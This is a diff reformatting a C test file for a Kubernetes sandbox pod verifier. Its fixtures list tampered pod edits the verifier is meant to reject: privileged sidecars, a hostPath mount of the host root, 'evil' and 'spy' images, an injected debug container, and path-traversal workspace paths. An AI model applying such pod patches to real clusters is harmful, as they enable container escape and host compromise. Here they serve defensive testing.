-	     {"spec/volumes", "+{\"name\":\"sidecar-data\",\"hostPath\":{\"path\":\"/\"}}"}},
-	    {{"spec/volumes", "+{\"name\":\"sidecar-data\",\"emptyDir\":{}}"}}, /* no sidecar to own it */
+		{ { C0 "image", "\"registry.local/other@" DIGEST64 "\"" } },
+		{ { C0 "image", "\"registry.local/agent:2.0@" DIGEST64 "\"" } },
+		{ { C0 "image", "\"registry.local/agent:1.0@sha256:abc\"" } },
+		{ { "spec/containers", "+{\"name\":\"sbx-sidecar\",\"image\":\"evil/sidecar:2\"}" } },
+		{ { "spec/containers", "+{\"name\":\"other\",\"image\":\"registry.local/sidecar:2\"}" } },
+		{ { "spec/initContainers", "+{\"name\":\"sbx-sidecar\",\"image\":\"registry.local/sidecar:2\"}" } },
+		{ { "spec/containers", "+{\"name\":\"sbx-sidecar\",\"image\":\"registry.local/sidecar:2\","
+				       "\"securityContext\":{\"privileged\":true}}" } },
+		{ { "spec/containers", "+{\"name\":\"sbx-sidecar\",\"image\":\"registry.local/sidecar:2\","
+				       "\"volumeMounts\":[{\"name\":\"workspaces\",\"mountPath\":\"/w\",\"subPath\":\"alice/workspace\"}]}" } },
+		{ { "spec/containers", "+{\"name\":\"sbx-sidecar\",\"image\":\"registry.local/sidecar:2\","
+				       "\"volumeMounts\":[{\"name\":\"sidecar-data\",\"mountPath\":\"/d\"}]}" },
+		  { "spec/volumes", "+{\"name\":\"sidecar-data\",\"hostPath\":{\"path\":\"/\"}}" } },
+		{ { "spec/volumes", "+{\"name\":\"sidecar-data\",\"emptyDir\":{}}" } }, /* no sidecar to own it */
 	};
 	for (size_t i = 0; i < sizeof beyond / sizeof beyond[0]; i++) {
 		CU_ASSERT_EQUAL(certify_after(&f, NULL, beyond[i], why, sizeof why),
@@ -1142,7 +1140,7 @@ static void test_verify_older_config(void)
 	char why[256] = "";
 	fixture_init(&old, ALICE_SPEC, old_yaml);
 	fixture_init(&now, ALICE_SPEC, new_yaml);
-	struct sbx_certify c = {now.pod, now.spec, &now.cfg};
+	struct sbx_certify c = { now.pod, now.spec, &now.cfg };
 	CU_ASSERT_EQUAL(sbx_pod_payload_verify(old.pod, &c, why, sizeof why), SBX_VERIFY_OK);
 	if (why[0])
 		fprintf(stderr, "\n  refused: %s\n", why);
@@ -1154,7 +1152,7 @@ static void test_verify_older_config(void)
 	fixture_init(&old, anon_named, old_yaml);
 	fixture_init(&now, anon_named, new_yaml);
 	CU_ASSERT_STRING_EQUAL(str_at(AT(old.pod, "spec", "runtimeClassName")), "kata");
-	c = (struct sbx_certify){now.pod, now.spec, &now.cfg};
+	c = (struct sbx_certify){ now.pod, now.spec, &now.cfg };
 	CU_ASSERT_EQUAL(sbx_pod_payload_verify(old.pod, &c, why, sizeof why), SBX_VERIFY_OK);
 	cJSON *none = cJSON_Duplicate(old.pod, 1);
 	put(none, "spec/runtimeClassName", NULL);
@@ -1165,13 +1163,13 @@ static void test_verify_older_config(void)
 
 	/* Other storage is not this owner's workspace. */
 	static const char *const storage[] = {
-	    "workspace: {pvcName: other-ws}\n",
-	    "workspace: {mode: hostPath, hostPathRoot: /srv/ws}\n",
+		"workspace: {pvcName: other-ws}\n",
+		"workspace: {mode: hostPath, hostPathRoot: /srv/ws}\n",
 	};
 	for (size_t i = 0; i < 2; i++) {
 		fixture_init(&old, ALICE_SPEC, storage[i]);
 		fixture_init(&now, ALICE_SPEC, NULL);
-		c = (struct sbx_certify){now.pod, now.spec, &now.cfg};
+		c = (struct sbx_certify){ now.pod, now.spec, &now.cfg };
 		CU_ASSERT_EQUAL(sbx_pod_payload_verify(old.pod, &c, why, sizeof why),
 				SBX_VERIFY_PAYLOAD_MISMATCH);
 		fixture_release(&old);
@@ -1183,11 +1181,16 @@ static void test_verify_older_config(void)
 static void test_verify_hostpath_confined(void)
 {
 	static const char *const outside[] = {
-	    "/srv/ws/team-a/bob/workspace", "/srv/ws/team-b/alice/workspace",
-	    "/srv/ws/alice/workspace",	    "/srv/ws/team-a/alice",
-	    "/srv/ws/team-a/alice/..",	    "/srv/ws/team-a/alice/workspace/sub",
-	    "/srv/ws/team-a/alice/.",	    "/srv/ws",
-	    "/srv/ws/team-a/alice/",	    "/etc",
+		"/srv/ws/team-a/bob/workspace",
+		"/srv/ws/team-b/alice/workspace",
+		"/srv/ws/alice/workspace",
+		"/srv/ws/team-a/alice",
+		"/srv/ws/team-a/alice/..",
+		"/srv/ws/team-a/alice/workspace/sub",
+		"/srv/ws/team-a/alice/.",
+		"/srv/ws",
+		"/srv/ws/team-a/alice/",
+		"/etc",
 	};
 	struct fixture f;
 	char why[256], val[128];
@@ -1195,18 +1198,18 @@ static void test_verify_hostpath_confined(void)
 	CU_ASSERT_EQUAL(certify_after(&f, NULL, NULL, why, sizeof why), SBX_VERIFY_OK);
 	for (size_t i = 0; i < sizeof outside / sizeof outside[0]; i++) {
 		snprintf(val, sizeof val, "\"%s\"", outside[i]);
-		struct edit e[] = {{"spec/volumes/0/hostPath/path", val}, {NULL, NULL}};
+		struct edit e[] = { { "spec/volumes/0/hostPath/path", val }, { NULL, NULL } };
 		CU_ASSERT_EQUAL(certify_after(&f, NULL, e, why, sizeof why), SBX_VERIFY_PAYLOAD_MISMATCH);
 	}
-	struct edit sub[] = {{C0 "volumeMounts/0/subPath", "\"x\""}, {NULL, NULL}};
+	struct edit sub[] = { { C0 "volumeMounts/0/subPath", "\"x\"" }, { NULL, NULL } };
 	CU_ASSERT_EQUAL(certify_after(&f, NULL, sub, why, sizeof why), SBX_VERIFY_PAYLOAD_MISMATCH);
-	struct edit type[] = {{"spec/volumes/0/hostPath/type", "\"Socket\""}, {NULL, NULL}};
+	struct edit type[] = { { "spec/volumes/0/hostPath/type", "\"Socket\"" }, { NULL, NULL } };
 	CU_ASSERT_EQUAL(certify_after(&f, NULL, type, why, sizeof why), SBX_VERIFY_PAYLOAD_MISMATCH);
 	fixture_release(&f);
 
 	/* The builder itself: every owner, namespace and mount lands below
 	 * <root>/<namespace>/<owner>/ in one segment. */
-	static const char *const owners[] = {"a", "alice", "a.b", "a-b_c", "x1"};
+	static const char *const owners[] = { "a", "alice", "a.b", "a-b_c", "x1" };
 	for (size_t i = 0; i < sizeof owners / sizeof owners[0]; i++) {
 		char spec[128], prefix[128];
 		snprintf(spec, sizeof spec, "{\"image\":\"i\",\"workspaceOwner\":\"%s\"}", owners[i]);
@@ -1230,18 +1233,18 @@ static void test_tamper_check(void)
 	struct fixture f;
 	char why[256];
 	fixture_init(&f, ALICE_SPEC, MUTATIONS_YAML);
-	struct sbx_certify c = {f.pod, f.spec, &f.cfg};
+	struct sbx_certify c = { f.pod, f.spec, &f.cfg };
 	CU_ASSERT_EQUAL(sbx_pod_tamper_check(f.pod, &c, why, sizeof why), SBX_VERIFY_OK);
 	static const struct edit ok[][2] = {
-	    {{C0 "image", "\"registry.local/agent:1.0@" DIGEST64 "\""}},
-	    {{"spec/containers", "+{\"name\":\"sbx-sidecar\",\"image\":\"registry.local/sidecar:9\"}"}},
+		{ { C0 "image", "\"registry.local/agent:1.0@" DIGEST64 "\"" } },
+		{ { "spec/containers", "+{\"name\":\"sbx-sidecar\",\"image\":\"registry.local/sidecar:9\"}" } },
 	};
 	static const struct edit bad[][2] = {
-	    {{C0 "image", "\"evil:latest\""}},
-	    {{"spec/containers", "+{\"name\":\"spy\",\"image\":\"evil\"}"}},
-	    {{"spec/initContainers", "+{\"name\":\"spy\",\"image\":\"evil\"}"}},
-	    {{"spec/ephemeralContainers", "+{\"name\":\"debug\",\"image\":\"busybox\"}"}},
-	    {{"spec/containers/0/name", "\"renamed\""}},
+		{ { C0 "image", "\"evil:latest\"" } },
+		{ { "spec/containers", "+{\"name\":\"spy\",\"image\":\"evil\"}" } },
+		{ { "spec/initContainers", "+{\"name\":\"spy\",\"image\":\"evil\"}" } },
+		{ { "spec/ephemeralContainers", "+{\"name\":\"debug\",\"image\":\"busybox\"}" } },
+		{ { "spec/containers/0/name", "\"renamed\"" } },
 	};
 	for (int trim = 0; trim < 2; trim++) {
 		for (size_t i = 0; i < 2 + sizeof bad / sizeof bad[0]; i++) {
@@ -1380,7 +1383,7 @@ static void test_pod_operator_settings(void)
 	CU_ASSERT_EQUAL(sbx_pod_runtime_class(spec, &f.cfg, &rc, msg, sizeof msg), -1);
 	CU_ASSERT_PTR_NOT_NULL(strstr(msg, "\"runc\" is not allowed"));
 	CU_ASSERT_PTR_NOT_NULL(strstr(msg, "gvisor, kata"));
-	struct sbx_pod_params p = {"ns", POD, "sb", "uid", spec, &f.scope, CLAIMED, FP, &f.cfg, NULL};
+	struct sbx_pod_params p = { "ns", POD, "sb", "uid", spec, &f.scope, CLAIMED, FP, &f.cfg, NULL };
 	CU_ASSERT_PTR_NULL(sbx_pod_build(&p));
 	cJSON_Delete(spec);
 	fixture_release(&f);
@@ -1400,27 +1403,27 @@ static void test_pod_operator_settings(void)
 
 void register_sandbox_pod_tests(void)
 {
-	SBX_SUITE("sandbox/seal", {"known answer", test_seal_known_answer},
-		  {"determinism and sensitivity", test_seal_sensitivity},
-		  {"constant-time compare", test_seal_equal});
-	SBX_SUITE("sandbox/podbuild", {"owner + PVC", test_pod_pvc},
-		  {"owner + hostPath", test_pod_hostpath},
-		  {"no owner: emptyDir only", test_pod_no_owner}, {"refusals", test_pod_refusals},
-		  {"hardened by default", test_pod_hardened},
-		  {"hostPath per namespace", test_pod_hostpath_namespaced},
-		  {"operator settings and runtime classes", test_pod_operator_settings});
-	SBX_SUITE("sandbox/verify", {"genuine pods", test_verify_genuine},
-		  {"each field tampered", test_verify_tampering},
-		  {"fingerprint modes and order", test_verify_fingerprint_modes},
-		  {"forged pods", test_verify_forged},
-		  {"owner presence", test_verify_owner_presence},
-		  {"verdict strings", test_verify_str}, {"payload replay", test_verify_payload},
-		  {"forged isolation fields", test_verify_forged_isolation},
-		  {"each isolation field", test_verify_each_isolation_field},
-		  {"apiserver defaults accepted", test_verify_apiserver_defaults},
-		  {"declared mutations", test_verify_declared_mutations},
-		  {"older configuration", test_verify_older_config},
-		  {"hostPath confined", test_verify_hostpath_confined},
-		  {"bound pod tampering", test_tamper_check});
-	SBX_SUITE("sandbox/seal-rotation", {"key list", test_seal_rotation});
+	SBX_SUITE("sandbox/seal", { "known answer", test_seal_known_answer },
+		  { "determinism and sensitivity", test_seal_sensitivity },
+		  { "constant-time compare", test_seal_equal });
+	SBX_SUITE("sandbox/podbuild", { "owner + PVC", test_pod_pvc },
+		  { "owner + hostPath", test_pod_hostpath },
+		  { "no owner: emptyDir only", test_pod_no_owner }, { "refusals", test_pod_refusals },
+		  { "hardened by default", test_pod_hardened },
+		  { "hostPath per namespace", test_pod_hostpath_namespaced },
+		  { "operator settings and runtime classes", test_pod_operator_settings });
+	SBX_SUITE("sandbox/verify", { "genuine pods", test_verify_genuine },
+		  { "each field tampered", test_verify_tampering },
+		  { "fingerprint modes and order", test_verify_fingerprint_modes },
+		  { "forged pods", test_verify_forged },
+		  { "owner presence", test_verify_owner_presence },
+		  { "verdict strings", test_verify_str }, { "payload replay", test_verify_payload },
+		  { "forged isolation fields", test_verify_forged_isolation },
+		  { "each isolation field", test_verify_each_isolation_field },
+		  { "apiserver defaults accepted", test_verify_apiserver_defaults },
+		  { "declared mutations", test_verify_declared_mutations },
+		  { "older configuration", test_verify_older_config },
+		  { "hostPath confined", test_verify_hostpath_confined },
+		  { "bound pod tampering", test_tamper_check });
+	SBX_SUITE("sandbox/seal-rotation", { "key list", test_seal_rotation });
 }
